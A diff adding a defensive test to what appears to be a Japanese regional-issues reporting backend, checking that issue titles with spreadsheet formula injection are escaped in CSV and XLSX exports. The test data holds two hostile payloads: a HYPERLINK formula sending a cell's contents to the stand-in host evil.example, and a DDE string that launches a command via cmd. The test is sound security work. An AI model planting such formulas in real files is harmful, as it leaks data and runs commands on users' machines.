@@ -20,6 +20,7 @@ from backend.db import transaction
 from backend.fiscal import fiscal_year_of
 from backend.jobs.dispatch import Dispatcher
 from backend.jobs.models import Job
+from backend.issues.models import RegionalIssue
 from backend.jobs import kinds
 from backend.mail.models import OutboxMessage
 from backend.regions import codes
@@ -228,3 +229,24 @@ async def test_the_fiscal_year_japan_is_in_can_be_ordered_and_the_next_cannot(gq
     assert out["userErrors"] == [] and out["report"]["status"] == "queued"
     out = await order(gql, world.analyst, world.prefecture_code, this_year + 1)
     assert [(e["field"], e["code"]) for e in out["userErrors"]] == [(["fiscalYear"], "OUT_OF_RANGE")]
+
+
+async def test_a_planted_formula_in_an_issue_title_cannot_run_in_the_exports(gql, sessions, settings, http):
+    world = await prefecture_world(sessions)
+    await seed(sessions, world, {("end_of_life", "care_manager"): 12})
+    planted = '=HYPERLINK("http://evil.example/"&B3,"詳細")'
+    async with transaction(sessions) as s:
+        s.add(RegionalIssue(hub_id=world.hub_id, fiscal_year=FY, scene="end_of_life", title=planted, status="confirmed",
+                            consultation_count=12, unresolved_count=0, key_terms=[], trend=[]))
+        s.add(RegionalIssue(hub_id=world.hub_id, fiscal_year=FY, scene="dementia", title="+cmd|' /C calc'!A0",
+                            status="confirmed", consultation_count=11, unresolved_count=0, key_terms=[], trend=[]))
+    report = await built(gql, sessions, settings, world)
+    csv_text = (await http.get(path_of(report["csvUrl"], settings), headers=bearer(world.analyst))).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
+    assert "'" + planted in cells and "'+cmd|' /C calc'!A0" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    xlsx = await http.get(path_of(report["xlsxUrl"], settings), headers=bearer(world.analyst))
+    sheet = load_workbook(io.BytesIO(xlsx.content))["主な地域課題"]
+    titles = {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+    assert titles[planted] == "s" and titles["+cmd|' /C calc'!A0"] == "s"
+    assert all(t == "s" for t in titles.values())   # no text cell is a formula
